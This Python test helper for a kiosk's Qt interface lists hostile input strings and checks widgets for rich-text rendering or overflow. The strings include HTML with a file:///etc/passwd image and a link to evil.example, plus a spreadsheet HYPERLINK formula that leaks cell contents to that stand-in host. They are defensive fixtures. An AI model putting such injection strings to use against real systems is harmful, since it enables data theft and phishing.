"""Hostile text, and a walk over every widget that can show text (issue 7, item 4).

Feed text (store names, metric labels and units, comments, messages, leaderboard names) and
manager text (shout-outs) are untrusted: whoever can write a feed file or stand at the screen
chooses them. `HOSTILE` holds what such a person might type; `text_widget_problems` walks a
widget tree and names every widget that could interpret text as markup, or that shows text
outside its box.
"""

from __future__ import annotations

from PySide6.QtCore import QRect, Qt
from PySide6.QtGui import Qt as QtGui
from PySide6.QtWidgets import (
    QAbstractButton,
    QAbstractSpinBox,
    QComboBox,
    QGraphicsView,
    QLabel,
    QLineEdit,
    QPlainTextEdit,
    QTextBrowser,
    QTextEdit,
    QWidget,
)

from tests.kiosk.ui.checks import all_overflow_problems

LONG_WORD = "W" * 10_000  # no space anywhere: must be elided or broken, never widen a box

HOSTILE: dict[str, str] = {
    "html": '<b>x</b><img src="file:///etc/passwd"><a href="https://evil.example/">click</a>',
    "rich_table": "<table><tr><td><h1>BIG</h1></td></tr></table><font size=7>huge</font>",
    "rtl": "\u202eمرحبا بالعالم\u202c שלום עולם \u202dabc\u202c \u2067עברית\u2069 end",
    "emoji": "👨\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 👍🏽 🇺🇸 🏴\U000e0067\U000e0062\U000e0073"
    "\U000e0063\U000e0074\U000e007f team",
    "long_word": LONG_WORD,
    "long_text": ("lorem ipsum dolor sit amet " * 400).strip(),  # 10,799 characters
    "control": "a\x07b\x1b[31mred\x1b[0m\u200b\u2028c\r\nd\te\x7f\x85f\ufeff",
    "formula": '=HYPERLINK("https://evil.example/?q="&A1,"Click for a raise")',
    "newlines": "line one\n\n\n\nline two\nline three\nline four\nline five\nline six",
}
# One string with everything, for fields that get a single value.
EVERYTHING = " ".join(HOSTILE[k] for k in ("html", "rtl", "emoji", "control", "formula"))

# Widgets that show text without interpreting it: each paints its text with QPainter.drawText
# (TouchButton, PadButton, EntryRowButton: kiosk/ui/widgets/buttons.py, manager/common.py), or
# draws no text at all (ManagerTab), or is a plain-text editor (QLineEdit). Another button class
# turning up is a problem until someone checks how it draws its text.
PLAIN_BUTTONS = ("TouchButton", "PadButton", "EntryRowButton", "ManagerTab", "QPushButton")


def _all_widgets(root: QWidget) -> list[QWidget]:
    return [root, *root.findChildren(QWidget)]


def format_problems(root: QWidget) -> list[str]:
    """Every widget under `root` that could render text as rich text (HTML)."""
    problems: list[str] = []
    for widget in _all_widgets(root):
        kind = type(widget).__name__
        where = f"{kind} {widget.objectName() or ''}".strip()
        tip = widget.toolTip()
        if tip and QtGui.mightBeRichText(tip):
            problems.append(f"{where}: tooltip {tip[:40]!r} would be rendered as rich text")
        for extra in (widget.statusTip(), widget.whatsThis()):
            if extra and QtGui.mightBeRichText(extra):
                problems.append(f"{where}: status/what's-this {extra[:40]!r} is rich text")
        if isinstance(widget, QTextBrowser):
            problems.append(f"{where}: a QTextBrowser renders HTML and follows links")
        elif isinstance(widget, QTextEdit):
            if widget.acceptRichText() or widget.document().toPlainText() != widget.toPlainText():
                problems.append(f"{where}: a QTextEdit that accepts rich text")
        elif isinstance(widget, QLabel):
            if widget.textFormat() != Qt.TextFormat.PlainText:
                problems.append(f"{where}: {widget.text()[:40]!r} is not Qt.PlainText")
            if widget.openExternalLinks():
                problems.append(f"{where}: opens external links")
            flags = widget.textInteractionFlags()
            if flags & Qt.TextInteractionFlag.LinksAccessibleByMouse:
                problems.append(f"{where}: links are clickable")
        elif isinstance(widget, QAbstractButton):
            if kind not in PLAIN_BUTTONS:
                problems.append(f"{where}: a button class not known to draw plain text")
        elif isinstance(widget, QGraphicsView | QComboBox | QAbstractSpinBox):
            problems.append(f"{where}: an unexpected text widget")
        elif isinstance(widget, QLineEdit | QPlainTextEdit):
            pass  # plain text by construction
        elif kind == "QQuickWidget" and type(widget.parentWidget()).__name__ != "VirtualKeyboard":
            # QML Text defaults to Text.AutoText. The only QML on the kiosk is Qt Virtual
            # Keyboard's InputPanel (keys, never feed or manager text).
            problems.append(f"{where}: QML outside the virtual keyboard")
    return problems


def geometry_problems(root: QWidget) -> list[str]:
    """Visible widgets whose box leaves their parent's, and labels whose text overflows."""
    problems = list(all_overflow_problems(root))
    for widget in root.findChildren(QWidget):
        if not widget.isVisibleTo(root) or widget.isWindow():
            continue
        parent = widget.parentWidget()
        if parent is None:
            continue
        if not QRect(parent.rect()).contains(widget.geometry()):
            problems.append(
                f"{type(widget).__name__} {widget.geometry().getRect()} leaves "
                f"{type(parent).__name__} {parent.rect().getRect()}"
            )
    for label in root.findChildren(QLabel):
        # What is drawn is fitted: a 10,000-character text never reaches a label whole.
        if label.isVisibleTo(root) and len(label.text()) > 3000:
            problems.append(f"label drawing {len(label.text())} characters: not fitted")
    return problems
